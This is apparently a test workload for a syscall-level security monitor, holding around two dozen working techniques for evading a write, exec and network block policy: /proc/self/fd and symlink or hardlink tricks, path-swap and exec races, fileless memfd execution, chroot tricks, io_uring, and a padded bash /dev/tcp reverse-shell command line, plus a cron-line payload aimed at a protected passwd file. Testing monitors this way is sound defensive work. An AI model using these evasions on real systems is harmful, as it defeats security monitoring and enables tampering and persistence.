"""Workloads that try to step around a `block` policy, one technique per case.

    python bypass.py CASE PROTECTED OUTSIDE PORT [--wait GO_FILE]

PROTECTED is the directory the policy protects (writes blocked), OUTSIDE a directory it does
not watch, PORT a TCP and UDP port the policy blocks. Each case attempts one effect the
policy forbids through another syscall or spelling than the textbook one; the test checks,
from outside, that the effect never landed and that the sidecar's event names the real
target. A case prints `attempt CASE` before it tries, and `landed CASE` if it got through
(the sidecar kills the process first when it works).

Where the techniques come from is named per case in tests/sidecar/test_bypass.py.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
CLONE_FS = 0x00000200
AT_EMPTY_PATH = 0x1000
MSG_FASTOPEN = 0x20000000
NR = {"x86_64": {"io_uring_setup": 425, "execveat": 322, "sendmmsg": 307},
      "aarch64": {"io_uring_setup": 425, "execveat": 281, "sendmmsg": 269}}[os.uname().machine]  # fmt: skip
PAYLOAD = b"* * * * * root /tmp/pwned\n"


def landed(case: str) -> None:
    print("landed", case, flush=True)


def write_fd(fd: int) -> None:
    os.write(fd, PAYLOAD)
    os.close(fd)


# -- files ----------------------------------------------------------------------------


def proc_self_fd(protected: str, outside: str) -> None:
    """Reopen a read-only fd of a protected file for writing through /proc/self/fd/N."""
    ro = os.open(os.path.join(protected, "passwd"), os.O_RDONLY)
    write_fd(os.open(f"/proc/self/fd/{ro}", os.O_WRONLY | os.O_APPEND))


def proc_self_fd_dir(protected: str, outside: str) -> None:
    """Create a file under a protected directory through /proc/self/fd/<dirfd>/name."""
    dfd = os.open(protected, os.O_RDONLY | os.O_DIRECTORY)
    write_fd(os.open(f"/proc/self/fd/{dfd}/cronjob", os.O_WRONLY | os.O_CREAT, 0o644))


def symlink_write(protected: str, outside: str) -> None:
    """Write through a symlink (made before the workload started) to a protected file."""
    write_fd(os.open(os.path.join(outside, "innocent-link"), os.O_WRONLY | os.O_APPEND))


def dangling_symlink_create(protected: str, outside: str) -> None:
    """O_CREAT through a dangling symlink creates its target in the protected directory."""
    write_fd(os.open(os.path.join(outside, "dangling-link"), os.O_WRONLY | os.O_CREAT, 0o644))


def hardlink_out(protected: str, outside: str) -> None:
    """Give a protected file a second name outside, then write through that name."""
    alias = os.path.join(outside, "hardlink")
    os.link(os.path.join(protected, "passwd"), alias)
    write_fd(os.open(alias, os.O_WRONLY | os.O_APPEND))


def old_hardlink(protected: str, outside: str) -> None:
    """Write through a hard link to a protected file made before the monitor started."""
    write_fd(os.open(os.path.join(outside, "old-hardlink"), os.O_WRONLY | os.O_APPEND))


def truncate(protected: str, outside: str) -> None:
    """truncate(2): a write without any open."""
    os.truncate(os.path.join(protected, "passwd"), 0)


def ftruncate(protected: str, outside: str) -> None:
    """ftruncate(2) of a read-write fd of a protected file the process inherited (opened
    before the monitor saw it): the fd, not any path, names the file."""
    os.ftruncate(int(os.environ["PROTECTED_FD"]), 0)


def symlink_into(protected: str, outside: str) -> None:
    """A cron job appears by `ln -s` into the watched directory: no open at all."""
    os.symlink(os.path.join(outside, "payload"), os.path.join(protected, "cron-symlink"))


def hardlink_into(protected: str, outside: str) -> None:
    """`ln` of an outside file into the watched directory."""
    os.link(os.path.join(outside, "payload"), os.path.join(protected, "cron-hardlink"))


def proc_self_root(protected: str, outside: str) -> None:
    """Write through /proc/self/root/<absolute path>."""
    path = "/proc/self/root" + os.path.join(protected, "passwd")
    write_fd(os.open(path, os.O_WRONLY | os.O_APPEND))


def thread_cwd(protected: str, outside: str) -> None:
    """A thread with its own fs struct (unshare(CLONE_FS)) chdirs into the protected
    directory and writes by a relative path: the process's cwd says elsewhere."""
    os.chdir(outside)

    def run() -> None:
        os.chdir(protected)
        write_fd(os.open("thread-job", os.O_WRONLY | os.O_CREAT, 0o644))

    in_own_fs_thread(run)


def in_own_fs_thread(work: Callable[[], None]) -> None:
    """Run `work` in a thread with its own fs struct (cwd, root); its error is raised here."""
    errors: list[BaseException] = []

    def run() -> None:
        try:
            if libc.unshare(CLONE_FS) != 0:
                raise OSError(ctypes.get_errno(), "unshare(CLONE_FS)")
            work()
        except BaseException as exc:  # noqa: BLE001 - reported by the main thread
            errors.append(exc)

    worker = threading.Thread(target=run)
    worker.start()
    worker.join()
    if errors:
        raise errors[0]


def io_uring(protected: str, outside: str) -> None:
    """io_uring_setup: a ring would run OPENAT+WRITE or CONNECT with no syscall to stop."""
    params = ctypes.create_string_buffer(120)  # struct io_uring_params
    fd = libc.syscall(NR["io_uring_setup"], 8, params)
    if fd < 0:
        print("io_uring_setup errno", ctypes.get_errno(), flush=True)
        return
    os.close(fd)
    landed("io_uring")


def path_swap(protected: str, outside: str) -> None:
    """Swap the path string while the open is stopped: one thread opens a buffer in a loop,
    another flips it between an outside name and a protected one."""
    harmless = os.path.join(outside, "harmless").encode()
    target = os.path.join(protected, "swapped").encode()
    size = max(len(harmless), len(target)) + 1
    buf = ctypes.create_string_buffer(harmless, size)
    done = threading.Event()

    def flip() -> None:
        while not done.is_set():
            ctypes.memmove(buf, target + b"\0", len(target) + 1)
            ctypes.memmove(buf, harmless + b"\0", len(harmless) + 1)

    flipper = threading.Thread(target=flip, daemon=True)
    flipper.start()
    libc.open.restype = ctypes.c_int
    deadline = time.monotonic() + 10
    try:
        while time.monotonic() < deadline:
            fd = libc.open(buf, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
            if fd < 0:
                continue
            name = os.readlink(f"/proc/self/fd/{fd}")
            if name == target.decode():
                write_fd(fd)
                landed("path-swap")
                return
            os.close(fd)
    finally:
        done.set()
    print("no swap won in 10 s", flush=True)


# -- exec -----------------------------------------------------------------------------


def exec_symlink(protected: str, outside: str) -> None:
    """Run the forbidden program through a symlink named `innocent`."""
    marker = os.path.join(outside, "ran")
    os.execv(os.path.join(outside, "innocent"), ["innocent", marker])


def exec_fd(protected: str, outside: str) -> None:
    """fexecve(3): execveat(fd, "", AT_EMPTY_PATH) of the forbidden program."""
    fd = os.open(os.path.join(outside, "forbidden"), os.O_RDONLY)
    os.execve(fd, ["innocent", os.path.join(outside, "ran")], dict(os.environ))


def exec_memfd(protected: str, outside: str) -> None:
    """Fileless: copy the program into a memfd and execveat it."""
    fd = os.memfd_create("payload", 0)
    with open(os.path.join(outside, "forbidden"), "rb") as fh:
        os.write(fd, fh.read())
    argv = (ctypes.c_char_p * 3)(b"payload", os.path.join(outside, "ran").encode(), None)
    envp = (ctypes.c_char_p * 1)(None)
    libc.syscall(NR["execveat"], fd, b"", argv, envp, AT_EMPTY_PATH)
    print("execveat errno", ctypes.get_errno(), flush=True)


# -- network --------------------------------------------------------------------------


def tcp_fastopen(port: int) -> None:
    """sendto(MSG_FASTOPEN): the connect happens inside a send."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.sendto(b"tfo", MSG_FASTOPEN, ("127.0.0.1", port))
        sock.recv(1)


class _SockaddrIn(ctypes.Structure):
    _fields_ = [("family", ctypes.c_ushort), ("port", ctypes.c_uint16),
                ("addr", ctypes.c_uint32), ("zero", ctypes.c_char * 8)]  # fmt: skip


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class _Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(_Iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]  # fmt: skip


class _Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", _Msghdr), ("len", ctypes.c_uint)]


def udp_sendmmsg(port: int, allowed_port: int) -> None:
    """sendmmsg: the first datagram to an allowed port, the second to the blocked one."""
    data = ctypes.create_string_buffer(b"mmsg")
    iov = _Iovec(ctypes.cast(data, ctypes.c_void_p), 4)
    loopback = struct.unpack("<I", socket.inet_aton("127.0.0.1"))[0]
    addrs = [_SockaddrIn(socket.AF_INET, socket.htons(p), loopback) for p in (allowed_port, port)]
    msgs = (_Mmsghdr * 2)()
    for msg, addr in zip(msgs, addrs, strict=True):
        msg.hdr.name = ctypes.cast(ctypes.pointer(addr), ctypes.c_void_p)
        msg.hdr.namelen = ctypes.sizeof(addr)
        msg.hdr.iov = ctypes.pointer(iov)
        msg.hdr.iovlen = 1
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sent = libc.syscall(NR["sendmmsg"], sock.fileno(), msgs, 2, 0)
        print("sendmmsg sent", sent, flush=True)


def padded_dev_tcp(port: int) -> None:
    """A reverse-shell command line padded past 4,096 bytes before `/dev/tcp/`."""
    pad = " " * 5000
    os.execv("/bin/bash", ["bash", "-c", f":{pad}; echo pwned > /dev/tcp/127.0.0.1/{port}"])


# -- a root of its own ---------------------------------------------------------------


def chroot_write(protected: str, outside: str) -> None:
    """chroot(2) into the protected directory, then write `/passwd`: the path the tracer
    reads names no protected file unless it knows the root changed."""
    os.chroot(protected)
    os.chdir("/")
    write_fd(os.open("/passwd", os.O_WRONLY | os.O_APPEND))


def chroot_exec(protected: str, outside: str) -> None:
    """chroot(2) into a directory holding a static program `/bin/forbidden`, then run it.
    Resolved against the old root, where /bin is a symlink to usr/bin (merged /usr), the
    path would become /usr/bin/forbidden, absent in the new root: a PATH probe, ignored."""
    run_in_jail(jail_with_forbidden(outside))


def jail_with_forbidden(outside: str) -> str:
    """OUTSIDE/jail, holding the static program of $STATIC_PROGRAM as /bin/forbidden."""
    jail = os.path.join(outside, "jail")
    os.makedirs(f"{jail}/bin", exist_ok=True)
    with open(os.environ["STATIC_PROGRAM"], "rb") as src, open(f"{jail}/bin/forbidden", "wb") as dst:
        dst.write(src.read())
    os.chmod(f"{jail}/bin/forbidden", 0o755)
    return jail


def exec_race(protected: str, outside: str) -> None:
    """The program appears between the monitor's look at the exec and the kernel's: one
    thread keeps making and removing `appearing` (a symlink to the forbidden program) while
    forked children exec it. An exec the monitor saw as a probe of a missing program (an
    execvp PATH probe) must still be judged when it runs."""
    target = os.path.join(outside, "appearing")
    marker = os.path.join(outside, "ran")
    done = threading.Event()

    def flip() -> None:
        while not done.is_set():
            with contextlib.suppress(FileExistsError):
                os.symlink(os.path.join(outside, "forbidden"), target)
            with contextlib.suppress(FileNotFoundError):
                os.unlink(target)

    flipper = threading.Thread(target=flip, daemon=True)
    flipper.start()
    outcomes = {"missing": 0, "refused": 0, "killed": 0, "ran": 0}
    deadline = time.monotonic() + 4
    try:
        for _ in range(400):
            if time.monotonic() > deadline or os.path.exists(marker):
                break
            pid = os.fork()
            if pid == 0:
                try:
                    os.execv(target, ["forbidden", marker])
                except FileNotFoundError:
                    os._exit(2)
                except OSError:
                    os._exit(3)
            _, status = os.waitpid(pid, 0)
            if os.WIFSIGNALED(status):
                outcomes["killed"] += 1
            else:
                outcomes[{2: "missing", 3: "refused"}.get(os.WEXITSTATUS(status), "ran")] += 1
    finally:
        done.set()
        flipper.join()
    print("exec-race outcomes", outcomes, flush=True)
    if os.path.exists(marker):
        landed("exec-race")
    os._exit(0)  # what landed is the marker's business, not main's


def run_in_jail(jail: str) -> None:
    os.chroot(jail)
    os.chdir("/")
    os.execv("/bin/forbidden", ["touch", "/ran"])  # busybox runs the applet argv[0] names


def thread_chroot_exec(protected: str, outside: str) -> None:
    """As chroot-exec, from a thread with its own fs struct (unshare(CLONE_FS)): the new
    root is that thread's alone, the process's (its leader's) root is still the old one."""
    jail = jail_with_forbidden(outside)
    in_own_fs_thread(lambda: run_in_jail(jail))


FILE_CASES = {
    f.__name__.replace("_", "-"): f
    for f in (proc_self_fd, proc_self_fd_dir, symlink_write, dangling_symlink_create,
              hardlink_out, old_hardlink, truncate, ftruncate, symlink_into, hardlink_into, proc_self_root,
              thread_cwd, io_uring, path_swap, exec_symlink, exec_fd, exec_memfd, chroot_write,
              chroot_exec, thread_chroot_exec, exec_race)
}  # fmt: skip


def main() -> None:
    case, protected, outside, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    if "--wait" in sys.argv:
        go = sys.argv[sys.argv.index("--wait") + 1]
        while not os.path.exists(go):
            time.sleep(0.01)
    print("attempt", case, flush=True)
    if case in FILE_CASES:
        FILE_CASES[case](protected, outside)
    elif case == "tcp-fastopen":
        tcp_fastopen(port)
    elif case == "udp-sendmmsg":
        udp_sendmmsg(port, int(sys.argv[5]))
    elif case == "padded-dev-tcp":
        padded_dev_tcp(port)
    else:
        raise SystemExit(f"unknown case {case}")
    landed(case)


if __name__ == "__main__":
    main()
